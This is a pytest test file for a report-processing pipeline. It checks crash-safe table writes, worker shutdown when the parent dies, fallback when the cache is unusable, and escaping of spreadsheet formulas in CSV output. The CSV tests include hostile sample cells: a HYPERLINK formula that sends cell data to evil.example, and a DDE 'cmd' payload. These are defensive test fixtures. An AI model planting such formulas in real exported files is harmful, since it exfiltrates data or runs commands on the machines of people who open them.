"""What the commands leave in their output folders: table sets that are old or new after a crash
at any point, workers that end with their parent, a cache that cannot be opened skipped with one
warning (and kept under --out), and CSV files a spreadsheet opens without running formulas."""

from __future__ import annotations

import csv
import gc
import hashlib
import json
import logging
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import psutil
import pytest

from helpers import cache as cache_mod
from helpers import config, pipeline, store

from conftest import REPORT_FILES

SET_TABLES = pipeline.TABLES  # what `clean` writes, each as parquet and CSV


def tree_hash(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def reports(target: Path, names: list[str], *, empty: bool = False) -> Path:
    """A folder of sample reports (and an empty file, which gives a warning row)."""
    target.mkdir(parents=True)
    for name in names:
        shutil.copyfile(config.RAW / name, target / name)
    if empty:
        (target / "empty.txt").write_bytes(b"")
    return target


def clean(source: Path, out: Path, *, env: dict | None = None, workers: int | None = None,
          wait: bool = True, **popen):
    command = [sys.executable, "-m", "helpers", "clean", str(source), "--out", str(out)]
    if workers:
        command += ["--workers", str(workers)]
    environment = {**os.environ, "FAZHI_PROGRESS": "0", **(env or {})}
    if not wait:
        return subprocess.Popen(command, env=environment, **popen)
    return subprocess.run(command, env=environment, capture_output=True, text=True, timeout=300)


def signature(out: Path) -> dict:
    """Per table: the reports (or files) its parquet and its CSV hold, and their row counts; and
    the stamp's row counts."""
    found = {}
    for name in SET_TABLES:
        parquet = pd.read_parquet(out / f"{name}.parquet")
        sheet = pd.read_csv(out / f"{name}.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
        key = "doc_id" if "doc_id" in parquet.columns else "file"
        found[name] = (frozenset(parquet[key]), len(parquet), frozenset(sheet[key]), len(sheet))
    stamp = json.loads((out / pipeline.TABLES_STAMP).read_text(encoding="utf-8"))
    found["stamp"] = tuple(sorted(stamp["rows"].items()))
    return found


def leftovers(out: Path) -> list[str]:
    root = out / store.STORE_DIR
    names = [p.name for p in out.iterdir() if p.name.endswith(".tmp")]
    names += [p.name for p in root.iterdir() if p.name.startswith("staging-") or p.name.endswith(".tmp")]
    versions = [p.name for p in root.iterdir() if p.name.startswith("v-")]
    return names + (versions if len(versions) > 2 else [])


@pytest.fixture(scope="module")
def two_sets(tmp_path_factory):
    """An output folder holding the tables of three reports and an empty file (the old set), and
    the signature of the tables of four other reports (the new set)."""
    base = tmp_path_factory.mktemp("sets")
    old_reports = reports(base / "old_reports", REPORT_FILES[:3], empty=True)
    new_reports = reports(base / "new_reports", REPORT_FILES[1:])
    before = tree_hash(old_reports), tree_hash(new_reports)
    assert pipeline.clean_command(old_reports, out=base / "old") == 0
    assert pipeline.clean_command(new_reports, out=base / "new") == 0
    assert (tree_hash(old_reports), tree_hash(new_reports)) == before
    old, new = signature(base / "old"), signature(base / "new")
    assert old["documents"] != new["documents"] and old["warnings"] != new["warnings"]
    return {"old_folder": base / "old", "new_reports": new_reports, "old": old, "new": new}


def _copy(folder: Path, target: Path, *, plain: bool) -> Path:
    """A copy of an output folder as it is (links kept), or with plain files only (the layout of
    older versions of the code), in both cases with its cache."""
    if not plain:
        return Path(shutil.copytree(folder, target, symlinks=True))
    target.mkdir()
    shutil.copytree(folder / ".cache", target / ".cache")
    for path in folder.iterdir():
        if path.is_file():
            shutil.copyfile(path, target / path.name)  # follows the link: the bytes, as a plain file
    (target / ".sentences.parquet.k2l9x0qa.tmp").write_bytes(b"half a table")  # an old run's leftover
    return target


@pytest.mark.parametrize("plain, point, expected", [
    (False, "chunk:sentences", "old"),        # while the tables are written
    (False, "staged:warnings.csv", "old"),    # every table staged, the stamp not yet
    (False, "synced:sections.csv", "old"),
    (False, "built", "old"),                  # the new version complete, not yet switched in
    (False, "switched", "new"),
    (False, "committed", "new"),
    (True, "adopting", "old"),                # a folder of plain files: taken into a version first
    (True, "adopted", "old"),
    (True, "linked:documents.csv", "old"),    # some public names links already, others still files
    (True, "built", "old"),
    (True, "switched", "new"),
])
def test_a_run_killed_at_any_point_leaves_the_old_set_or_the_new(two_sets, tmp_path, plain, point, expected):
    out = _copy(two_sets["old_folder"], tmp_path / "out", plain=plain)
    source = two_sets["new_reports"]
    before = tree_hash(source)
    killed = clean(source, out, env={store.KILL_ENV: point})
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    assert tree_hash(source) == before
    assert signature(out) == two_sets[expected], f"killed at {point}: a mixed or wrong set"
    if expected == "old" and point != "committed":
        assert leftovers(out), "the killed run should have left its staging folder"
    # the next run cleans up after the killed one and writes the new set
    assert pipeline.clean_command(source, out=out) == 0
    assert tree_hash(source) == before
    assert signature(out) == two_sets["new"]
    assert leftovers(out) == []
    assert all((out / f"{name}.{kind}").is_symlink() for name in SET_TABLES for kind in ("parquet", "csv"))


def test_a_killed_run_over_the_same_reports_is_cleaned_up_by_an_up_to_date_run(two_sets, tmp_path):
    """The next run finds the tables up to date (the killed one had changed nothing) and still
    removes what the killed one left."""
    out = _copy(two_sets["old_folder"], tmp_path / "out", plain=False)
    source = reports(tmp_path / "old_reports", REPORT_FILES[:3], empty=True)
    before = tree_hash(source)
    killed = clean(source, out, env={store.KILL_ENV: "chunk:documents"})
    # the same reports: up to date, so the killed run never reached the tables
    assert killed.returncode == 0 and leftovers(out) == []
    stale = out / store.STORE_DIR / f"staging-{_dead_pid()}-abcdefgh"
    stale.mkdir()
    (stale / "documents.parquet").write_bytes(b"partial")
    (out / f".documents.csv.{_dead_pid()}-abcdefgh.tmp").write_bytes(b"partial")
    assert pipeline.process_corpus(source, out=out, cache=out / ".cache", tokens=False, quantities=False,
                                   csv=True)["up_to_date"]
    assert leftovers(out) == []
    assert signature(out) == two_sets["old"]
    assert tree_hash(source) == before


def _dead_pid() -> int:
    process = subprocess.Popen([sys.executable, "-c", "pass"])
    process.wait()
    return process.pid


def test_a_table_and_its_csv_switch_together_and_other_tables_stay(tmp_path):
    """write_table (the notebooks' call) is a set of one table: its parquet and CSV; the folder's
    other tables are kept, and a reader can take several tables from one version."""
    first = pd.DataFrame({"doc_id": ["a", "b"], "n": [1, 2]})
    store.write_tables(tmp_path, {"documents": first, "sentences": first.assign(n=[3, 4])})
    store.write_table(first.assign(n=[5, 6]), tmp_path, "documents")
    assert store.read_table(tmp_path, "documents")["n"].tolist() == [5, 6]
    assert pd.read_csv(tmp_path / "documents.csv", encoding="utf-8-sig")["n"].tolist() == [5, 6]
    assert store.read_table(tmp_path, "sentences")["n"].tolist() == [3, 4]
    both = store.read_tables(tmp_path, ["documents", "sentences"])
    assert both["documents"]["n"].tolist() == [5, 6] and both["sentences"]["n"].tolist() == [3, 4]
    versions = [p for p in (tmp_path / store.STORE_DIR).iterdir() if p.name.startswith("v-")]
    assert len(versions) == 2  # the current one and the one a reader may just have resolved
    with pytest.raises(FileNotFoundError, match="run the notebook"):
        store.read_table(tmp_path, "tokens")


def test_without_symbolic_links_each_file_is_still_renamed_whole(tmp_path, monkeypatch):
    monkeypatch.setattr(store, "_links_work", lambda root: False)
    store.write_table(pd.DataFrame({"doc_id": ["a"]}), tmp_path, "documents")
    assert not (tmp_path / "documents.parquet").is_symlink()
    assert store.read_table(tmp_path, "documents")["doc_id"].tolist() == ["a"]
    assert not [p for p in (tmp_path / store.STORE_DIR).iterdir() if p.name.startswith("staging-")]


def _write_many(folder, prefix, count):
    for i in range(count):
        store.write_table(pd.DataFrame({"i": [i]}), folder, f"{prefix}{i}")


def test_two_processes_writing_tables_into_one_folder_lose_none(tmp_path):
    """Notebooks 02 and 03 run side by side and write into one folder: every commit starts from
    the version current under the lock, so neither loses the other's tables."""
    import multiprocessing

    context = multiprocessing.get_context("spawn")
    with context.Pool(2) as pool:
        pool.starmap(_write_many, [(tmp_path, "a", 8), (tmp_path, "b", 8)])
    for prefix in "ab":
        for i in range(8):
            assert store.read_table(tmp_path, f"{prefix}{i}")["i"].tolist() == [i]


# --------------------------------------------------------------------------- workers and parent
def test_workers_exit_promptly_when_the_parent_is_killed(tmp_path):
    source = reports(tmp_path / "reports", REPORT_FILES)
    before = tree_hash(source)
    marker = tmp_path / "paused"
    parent = clean(source, tmp_path / "out", workers=2, wait=False, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL,
                   env={store.PAUSE_ENV: "chunk:documents", store.PAUSE_FILE_ENV: str(marker)})
    children = []
    try:
        deadline = time.monotonic() + 240
        while not marker.exists():
            assert parent.poll() is None, "the run ended before its pause point"
            assert time.monotonic() < deadline, "the run never reached its pause point"
            time.sleep(0.2)
        children = psutil.Process(parent.pid).children(recursive=True)
        workers = [c for c in children if "LokyProcess" in " ".join(c.cmdline())]
        assert len(workers) == 2, [c.cmdline() for c in children]
        parent.send_signal(signal.SIGKILL)
        parent.wait()
        killed_at = time.monotonic()

        def running():
            alive = []
            for child in children:
                try:
                    if child.status() != psutil.STATUS_ZOMBIE:
                        alive.append(child)
                except psutil.NoSuchProcess:
                    pass
            return alive

        while running() and time.monotonic() - killed_at < 5:
            time.sleep(0.1)
        assert running() == [], f"still running 5 s after the parent died: {[c.cmdline() for c in running()]}"
    finally:
        for process in [parent, *children]:
            try:
                process.kill()
            except (OSError, psutil.Error):
                pass
    assert tree_hash(source) == before


def test_the_watch_ends_a_worker_whose_parent_is_gone(tmp_path):
    """watch_parent in a child of a process that is then killed (its own parent, this test, runs on)."""
    worker_script = tmp_path / "worker.py"
    worker_script.write_text(
        "import os, time\n"
        "from helpers import parallel\n"
        "assert parallel.watch_parent(os.getppid())\n"
        "print(os.getpid(), flush=True)\n"
        "time.sleep(120)\n", encoding="utf-8")
    parent_script = tmp_path / "parent.py"
    parent_script.write_text(
        "import subprocess, sys, time\n"
        f"subprocess.Popen([sys.executable, {str(worker_script)!r}])\n"
        "time.sleep(120)\n", encoding="utf-8")
    parent = subprocess.Popen([sys.executable, str(parent_script)], stdout=subprocess.PIPE, text=True)
    worker = None
    try:
        worker = psutil.Process(int(parent.stdout.readline()))
        parent.kill()
        parent.wait()
        started = time.monotonic()
        while time.monotonic() - started < 5:
            try:
                if worker.status() == psutil.STATUS_ZOMBIE:
                    break
            except psutil.NoSuchProcess:
                break
            time.sleep(0.05)
        else:
            pytest.fail("the worker outlived its parent by 5 s")
    finally:
        parent.kill()
        if worker is not None:
            try:
                worker.kill()
            except psutil.Error:
                pass


# --------------------------------------------------------------------------- a cache in the way
def _one_cache_warning(caplog) -> None:
    lines = [r.getMessage() for r in caplog.records if r.name == "helpers.cache"]
    assert len(lines) == 1 and "continuing without a cache" in lines[0] and "\n" not in lines[0], lines


def test_a_file_where_the_cache_folder_should_be_is_skipped_with_one_warning_line(tmp_path):
    source = reports(tmp_path / "reports", REPORT_FILES[:2])
    before = tree_hash(source)
    out = tmp_path / "out"
    out.mkdir()
    (out / ".cache").write_text("not a folder", encoding="utf-8")
    proc = clean(source, out)
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr.strip().count("\n") == 0 and "continuing without a cache" in proc.stderr, proc.stderr
    assert len(store.read_table(out, "documents")) == 2
    assert tree_hash(source) == before


def test_a_folder_where_the_database_should_be_is_skipped(tmp_path, caplog):
    folder = tmp_path / "cache"
    cache_mod.DocumentCache(folder).db_path.mkdir(parents=True)
    source = reports(tmp_path / "reports", REPORT_FILES[:2])
    before = tree_hash(source)
    with caplog.at_level(logging.WARNING, logger="helpers.cache"):
        assert cache_mod.open_cache(folder, default_folder=tmp_path / "unused") is None
    _one_cache_warning(caplog)
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="helpers.cache"):
        built = pipeline.build_corpus(source, cache=folder, tokens=True)
    _one_cache_warning(caplog)
    pd.testing.assert_frame_equal(built.sentences, pipeline.build_corpus(source).sentences)
    assert tree_hash(source) == before


@pytest.fixture()
def read_only(tmp_path):
    """Make folders and files read-only, even for root (chattr +i), and writable again after."""
    made: list[Path] = []

    def freeze(*paths: Path) -> None:
        for path in paths:
            if os.geteuid() == 0:
                if shutil.which("chattr") is None or subprocess.run(["chattr", "+i", str(path)]).returncode:
                    pytest.skip("running as root without chattr: nothing is read-only")
            else:
                path.chmod(0o555 if path.is_dir() else 0o444)
            made.append(path)

    yield freeze
    for path in reversed(made):
        if os.geteuid() == 0:
            subprocess.run(["chattr", "-i", str(path)])
        else:
            path.chmod(0o755 if path.is_dir() else 0o644)


@pytest.mark.parametrize("filled", [False, True])
def test_a_read_only_cache_is_skipped_with_one_warning(tmp_path, read_only, caplog, filled):
    folder = tmp_path / "cache"
    source = reports(tmp_path / "reports", REPORT_FILES[:2])
    before = tree_hash(source)
    if filled:  # entries made earlier, then the folder and the database made read-only
        pipeline.build_corpus(source, cache=folder)
        gc.collect()  # the run's connection closed: no write-ahead log left beside the database
        opened = cache_mod.DocumentCache(folder)
        assert len(opened) > 0
        opened.close()
        read_only(*opened.root.iterdir(), opened.root)
    else:
        folder.mkdir()
        read_only(folder)
    with caplog.at_level(logging.WARNING, logger="helpers.cache"):
        built = pipeline.build_corpus(source, cache=folder)
    _one_cache_warning(caplog)
    assert len(built.documents) == 2
    assert tree_hash(source) == before


def test_the_commands_keep_their_cache_under_out_never_in_the_project(tmp_path):
    root = tmp_path / "project"  # the project root the commands see (config.ROOT)
    root.mkdir()
    source = reports(tmp_path / "reports", REPORT_FILES[:2])
    before = tree_hash(source)
    env = {**os.environ, "FAZHI_ROOT": str(root), "FAZHI_PROGRESS": "0"}
    tables, sheet = tmp_path / "tables", tmp_path / "results" / "quantities.csv"
    sheet.parent.mkdir()
    for command in (["clean", str(source), "--out", str(tables)], ["indicators", str(source), "--out", str(sheet)]):
        proc = subprocess.run([sys.executable, "-m", "helpers", *command], env=env, capture_output=True,
                              text=True, timeout=300)
        assert proc.returncode == 0, proc.stderr
    assert not (root / ".cache").exists() and list(root.iterdir()) == []
    for folder in (tables / ".cache", sheet.parent / ".cache"):
        assert list(folder.glob(f"{cache_mod.ENTRIES_DIR}/*/entries.sqlite")), folder
    assert tree_hash(source) == before


# --------------------------------------------------------------------------- formulas in CSV files
HOSTILE_REGION = '=HYPERLINK("http://evil.example/?x="&A1,"武江区")'


def _cells(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_that_would_run_as_formulas_get_an_apostrophe(tmp_path):
    frame = pd.DataFrame({
        "region": [HOSTILE_REGION, "武江区", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-2+3+cmd|' /C calc'!A0", "-12.5"],
        "file": ["+2022.txt", "a.txt", "b.txt", "c.txt", "d.txt", "e.txt", "f.txt"],
        "value": [-3.5, 2.0, None, 0.0, -1e-3, 7.0, 8.0],
        "count": [-1, 2, 3, 4, 5, 6, 7],
    })
    original = frame.copy()
    store.write_table(frame, tmp_path, "t")
    pd.testing.assert_frame_equal(frame, original)  # the caller's table is left alone
    pd.testing.assert_frame_equal(store.read_table(tmp_path, "t"), original)  # parquet: the values as they are
    rows = _cells(tmp_path / "t.csv")
    assert [r["region"] for r in rows] == [
        "'" + HOSTILE_REGION, "武江区", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1", "'-2+3+cmd|' /C calc'!A0", "-12.5"]
    assert rows[0]["file"] == "'+2022.txt" and rows[1]["file"] == "a.txt"
    assert [r["value"] for r in rows][:2] == ["-3.5", "2.0"] and rows[0]["count"] == "-1"
    back = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig")
    assert back["value"].dtype == float and back["count"].tolist() == original["count"].tolist()


def test_the_commands_csv_files_are_safe_for_spreadsheets(tmp_path):
    source = tmp_path / "reports"
    source.mkdir()
    name = "+2022武江.txt"
    shutil.copyfile(config.RAW / REPORT_FILES[2], source / name)
    pd.DataFrame({"file": [name], "region": [HOSTILE_REGION]}).to_csv(source / "manifest.csv", index=False)
    before = tree_hash(source)
    assert pipeline.clean_command(source, out=tmp_path / "tables", cache=False) == 0
    documents = _cells(tmp_path / "tables" / "documents.csv")
    assert documents[0]["region"] == "'" + HOSTILE_REGION and documents[0]["file"] == "'" + name
    assert documents[0]["doc_id"] == "'+2022武江" and int(documents[0]["n_chars"]) > 1000
    assert {r["doc_id"] for r in _cells(tmp_path / "tables" / "sentences.csv")} == {"'+2022武江"}
    parquet = store.read_table(tmp_path / "tables", "documents")
    assert parquet["region"].tolist() == [HOSTILE_REGION] and parquet["file"].tolist() == [name]
    sheet = tmp_path / "quantities.csv"
    assert pipeline.indicators_command(source, out=sheet, cache=False) == 0
    mentions = _cells(sheet)
    assert mentions and {r["file"] for r in mentions} == {"'" + name}
    assert pd.read_csv(sheet, encoding="utf-8-sig")["value"].dtype == float
    assert tree_hash(source) == before
